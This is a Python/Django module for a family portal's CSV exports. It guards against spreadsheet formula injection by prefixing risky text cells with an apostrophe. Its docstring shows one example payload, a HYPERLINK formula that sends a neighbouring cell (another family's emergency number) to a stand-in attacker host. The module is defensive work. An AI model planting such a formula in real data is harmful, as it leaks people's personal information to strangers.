"""One CSV writer for every export of the portal, safe to open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel and LibreOffice (CSV or formula injection): a child named
``=HYPERLINK("http://evil.example/?d="&F2;"Details")`` would send the next cell, another
family's emergency number, to a stranger with one click. Such text cells get a leading
apostrophe, the spreadsheets' own sign for "this is text", so they show as typed and are
never run.

Only text (``str``) is neutralised: numbers the portal computes (``int``, ``float``,
``Decimal``) stay numbers, so a ``-5`` in a numeric column is still summed. Whatever a
person typed is text, also a phone number like ``+49 171 …`` (which a spreadsheet would
otherwise turn into a sum or an error).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

from django.http import HttpResponse
from django.utils.functional import Promise

# What spreadsheets take as the start of a formula (OWASP "CSV Injection").
FORMEL_ANFANG = ("=", "+", "-", "@", "\t", "\r")


def zelle(wert: Any) -> Any:
    """`wert` made safe for a spreadsheet cell (see the module docstring)."""
    if isinstance(wert, Promise):  # a lazily translated label
        wert = str(wert)
    if isinstance(wert, str) and wert.startswith(FORMEL_ANFANG):
        return "'" + wert
    return wert


class SichererSchreiber:
    """A ``csv.writer`` that neutralises every cell; same ``writerow``/``writerows``."""

    def __init__(self, datei, **optionen) -> None:
        self._schreiber = csv.writer(datei, **optionen)

    def writerow(self, zeile: Iterable[Any]) -> Any:
        return self._schreiber.writerow([zelle(wert) for wert in zeile])

    def writerows(self, zeilen: Iterable[Iterable[Any]]) -> None:
        for zeile in zeilen:
            self.writerow(zeile)


def csv_antwort(dateiname: str) -> tuple[HttpResponse, SichererSchreiber]:
    """A CSV download named `dateiname` and its safe writer: UTF-8 with a byte order mark
    (so spreadsheet programs read the umlauts) and ``;`` between cells (what German
    spreadsheets expect)."""
    antwort = HttpResponse(content_type="text/csv; charset=utf-8")
    antwort["Content-Disposition"] = f'attachment; filename="{dateiname}"'
    antwort.write("\ufeff")
    return antwort, SichererSchreiber(antwort, delimiter=";")
